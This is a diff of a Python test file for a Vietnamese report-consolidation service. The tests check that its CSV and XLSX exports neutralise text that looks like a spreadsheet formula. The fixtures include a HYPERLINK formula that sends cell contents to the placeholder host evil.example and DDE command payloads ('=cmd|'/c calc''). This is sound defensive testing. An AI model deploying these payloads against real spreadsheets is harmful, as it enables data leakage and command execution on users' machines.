@@ -1,4 +1,5 @@
 """The consolidated workbook and the CSV/XLSX exports (pure: views in, bytes out)."""
+
 from __future__ import annotations
 
 import csv
@@ -21,13 +22,31 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
 def hostile() -> list:
     """Units and strangers whose text looks like formulas."""
     return scenario() + [
-        msg("YTE", at(DAY, 9), {("ho_kinh_doanh", "de_nghi"): 41}, subject=FORMULA,
-            problems=(("not_a_number", {"file": "=cmd|'/c calc'!A1.xlsx", "sheet": "S", "cell": "C4",
-                                        "text": "@SUM(1+1)"}),)),
-        msg(None, at(DAY, 14), kind="unassigned", sender="+84@evil.example", subject="-2+3",
-            reason="unknown_sender:+84@evil.example"),
-        msg(None, at(DAY, 14, 5), kind="unassigned", sender="x@evil.example", subject="#N/A\x00\x07bell",
-            reason="unknown_sender:x@evil.example"),
+        msg(
+            "YTE",
+            at(DAY, 9),
+            {("ho_kinh_doanh", "de_nghi"): 41},
+            subject=FORMULA,
+            problems=(
+                ("not_a_number", {"file": "=cmd|'/c calc'!A1.xlsx", "sheet": "S", "cell": "C4", "text": "@SUM(1+1)"}),
+            ),
+        ),
+        msg(
+            None,
+            at(DAY, 14),
+            kind="unassigned",
+            sender="+84@evil.example",
+            subject="-2+3",
+            reason="unknown_sender:+84@evil.example",
+        ),
+        msg(
+            None,
+            at(DAY, 14, 5),
+            kind="unassigned",
+            sender="x@evil.example",
+            subject="#N/A\x00\x07bell",
+            reason="unknown_sender:x@evil.example",
+        ),
     ]
 
 
@@ -46,8 +65,7 @@ def all_text_cells(wb):
 
 def test_sheets_in_vietnamese_and_english():
     _, wb = book()
-    assert wb.sheetnames == ["Tổng hợp", "Tình hình báo cáo", "Chi tiết theo đơn vị", "Vấn đề",
-                             "Thư chưa gắn đơn vị"]
+    assert wb.sheetnames == ["Tổng hợp", "Tình hình báo cáo", "Chi tiết theo đơn vị", "Vấn đề", "Thư chưa gắn đơn vị"]
     _, wb = book(make_cfg("en"))
     assert wb.sheetnames == ["Totals", "Reporting status", "Figures by unit", "Problems", "Unassigned messages"]
 
@@ -115,7 +133,9 @@ def test_detail_sheet_is_one_row_per_unit_and_a_column_per_indicator_and_measure
     ws = wb["Chi tiết theo đơn vị"]
     assert ws["E4"].value == "Hỗ trợ người lao động ngừng việc" and ws["G4"].value == "Hỗ trợ hộ kinh doanh"
     assert [ws.cell(5, c).value for c in range(5, 9)] == [
-        "Số đối tượng đề nghị hỗ trợ", "Kinh phí được phê duyệt (triệu đồng)"] * 2
+        "Số đối tượng đề nghị hỗ trợ",
+        "Kinh phí được phê duyệt (triệu đồng)",
+    ] * 2
     rows = {ws.cell(r, 2).value: [c.value for c in ws[r]][2:8] for r in range(6, ws.max_row + 1)}
     assert rows["Phòng, ban, ngành"] == [None] * 6  # a group row
     assert rows["Bảo hiểm xã hội thành phố"] == ["Đúng hạn", dt.datetime(2021, 8, 11), 1234, 1234.5, None, None]
@@ -157,15 +177,27 @@ def test_control_characters_and_error_lookalikes_are_plain_text():
     assert cell.value == "#N/A  x" and cell.data_type == "s"
 
 
-@pytest.mark.parametrize("text, safe", [
-    ("=1+1", "'=1+1"), ("+84 912", "'+84 912"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
-    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Phòng Y tế", "Phòng Y tế"), ("", ""), (None, ""), ("a=b", "a=b"),
-])
+@pytest.mark.parametrize(
+    "text, safe",
+    [
+        ("=1+1", "'=1+1"),
+        ("+84 912", "'+84 912"),
+        ("-5", "'-5"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Phòng Y tế", "Phòng Y tế"),
+        ("", ""),
+        (None, ""),
+        ("a=b", "a=b"),
+    ],
+)
 def test_neutralize(text, safe):
     assert neutralize(text) == safe
 
 
 # -- exports ------------------------------------------------------------------------------------
+
 
 def views():
     messages = hostile()
@@ -178,8 +210,13 @@ def test_export_rows_long_format_money_in_dong():
     bhxh = [r for r in rows if r[0] == DAY and r[1] == "BHXH"]
     assert [r[6:] for r in bhxh] == [
         ["ngung_viec", "Hỗ trợ người lao động ngừng việc", "de_nghi", "Số đối tượng đề nghị hỗ trợ", Decimal(1234)],
-        ["ngung_viec", "Hỗ trợ người lao động ngừng việc", "kinh_phi", "Kinh phí được phê duyệt",
-         Decimal(1_234_500_000)],
+        [
+            "ngung_viec",
+            "Hỗ trợ người lao động ngừng việc",
+            "kinh_phi",
+            "Kinh phí được phê duyệt",
+            Decimal(1_234_500_000),
+        ],
     ]
     assert bhxh[0][4] == "Đúng hạn" and bhxh[0][5] == at(DAY, 8, 5)
     # a unit without figures of its own that day still has its row
@@ -199,6 +236,7 @@ def test_csv_export_has_a_bom_and_neutralised_text():
 
 def test_csv_neutralises_unit_names_that_look_like_formulas():
     from service.config import UnitConfig
+
     cfg = make_cfg(units=(UnitConfig("EVIL", "=cmd|' /C calc'!A0", "-nhóm", senders=("e@x.vn",)),))
     rows = list(csv.reader(io.StringIO(render_export_csv([view_of(cfg, DAY, [])], cfg).decode("utf-8-sig"))))
     assert rows[1][2] == "'=cmd|' /C calc'!A0" and rows[1][3] == "'-nhóm"
@@ -206,6 +244,7 @@ def test_csv_neutralises_unit_names_that_look_like_formulas():
 
 def test_xlsx_export_opens_with_text_never_a_formula():
     from service.config import UnitConfig
+
     cfg = make_cfg(units=(*CFG.units, UnitConfig("EVIL", "=1+1", None, senders=("e@x.vn",))))
     data = render_export_xlsx([view_of(cfg, DAY, scenario())], cfg)
     ws = load_workbook(io.BytesIO(data)).active
@@ -226,6 +265,7 @@ def test_money_values_keep_every_dong_in_the_workbook():
 
 # -- progress against the campaign's targets ------------------------------------------------------
 
+
 def test_progress_sheet_after_the_totals_with_ratios_formatted_as_percent():
     _, wb = book(with_targets())
     assert wb.sheetnames[:3] == ["Tổng hợp", "Tiến độ", "Tình hình báo cáo"]
@@ -233,23 +273,66 @@ def test_progress_sheet_after_the_totals_with_ratios_formatted_as_percent():
     assert ws["A1"].value == "TIẾN ĐỘ SO VỚI KẾ HOẠCH NGÀY 11/08/2021"
     assert ws["A2"].value == "Còn 14 ngày đến hạn 25/08/2021."
     head = 5
-    assert [c.value for c in ws[head]] == ["STT", "Mã đơn vị", "Đơn vị", "Chỉ tiêu", "Cột", "Đã thực hiện",
-                                           "Kế hoạch", "Tỷ lệ"]
+    assert [c.value for c in ws[head]] == [
+        "STT",
+        "Mã đơn vị",
+        "Đơn vị",
+        "Chỉ tiêu",
+        "Cột",
+        "Đã thực hiện",
+        "Kế hoạch",
+        "Tỷ lệ",
+    ]
     rows = [[c.value for c in r] for r in ws.iter_rows(min_row=head + 1)]
     # campaign totals first, then each unit's cells; money in triệu đồng as on the other sheets
     assert [r[1:] for r in rows] == [
-        [None, "Tổng cộng", "Hỗ trợ người lao động ngừng việc", "Số đối tượng đề nghị hỗ trợ", 1284, 2040,
-         pytest.approx(1284 / 2040)],
-        [None, "Tổng cộng", "Hỗ trợ người lao động ngừng việc", "Kinh phí được phê duyệt (triệu đồng)", 1234.5, 1500,
-         pytest.approx(0.823)],
+        [
+            None,
+            "Tổng cộng",
+            "Hỗ trợ người lao động ngừng việc",
+            "Số đối tượng đề nghị hỗ trợ",
+            1284,
+            2040,
+            pytest.approx(1284 / 2040),
+        ],
+        [
+            None,
+            "Tổng cộng",
+            "Hỗ trợ người lao động ngừng việc",
+            "Kinh phí được phê duyệt (triệu đồng)",
+            1234.5,
+            1500,
+            pytest.approx(0.823),
+        ],
         [None, "Tổng cộng", "Hỗ trợ hộ kinh doanh", "Số đối tượng đề nghị hỗ trợ", 47, 100, pytest.approx(0.47)],
-        ["BHXH", "Bảo hiểm xã hội thành phố", "Hỗ trợ người lao động ngừng việc", "Số đối tượng đề nghị hỗ trợ",
-         1234, 2000, pytest.approx(0.617)],
-        ["BHXH", "Bảo hiểm xã hội thành phố", "Hỗ trợ người lao động ngừng việc",
-         "Kinh phí được phê duyệt (triệu đồng)", 1234.5, 1500, pytest.approx(0.823)],
+        [
+            "BHXH",
+            "Bảo hiểm xã hội thành phố",
+            "Hỗ trợ người lao động ngừng việc",
+            "Số đối tượng đề nghị hỗ trợ",
+            1234,
+            2000,
+            pytest.approx(0.617),
+        ],
+        [
+            "BHXH",
+            "Bảo hiểm xã hội thành phố",
+            "Hỗ trợ người lao động ngừng việc",
+            "Kinh phí được phê duyệt (triệu đồng)",
+            1234.5,
+            1500,
+            pytest.approx(0.823),
+        ],
         ["YTE", "Phòng Y tế", "Hỗ trợ hộ kinh doanh", "Số đối tượng đề nghị hỗ trợ", 40, 80, 0.5],
-        ["SONG_CAU", "UBND phường Sông Cầu", "Hỗ trợ người lao động ngừng việc", "Số đối tượng đề nghị hỗ trợ",
-         50, 40, 1.25],
+        [
+            "SONG_CAU",
+            "UBND phường Sông Cầu",
+            "Hỗ trợ người lao động ngừng việc",
+            "Số đối tượng đề nghị hỗ trợ",
+            50,
+            40,
+            1.25,
+        ],
     ]
     assert {ws.cell(r, 8).number_format for r in range(head + 1, ws.max_row + 1)} == {"0.0%"}
     assert ws.cell(head + 2, 6).number_format == "#,##0.0#" and ws.cell(head + 1, 6).number_format == "#,##0"
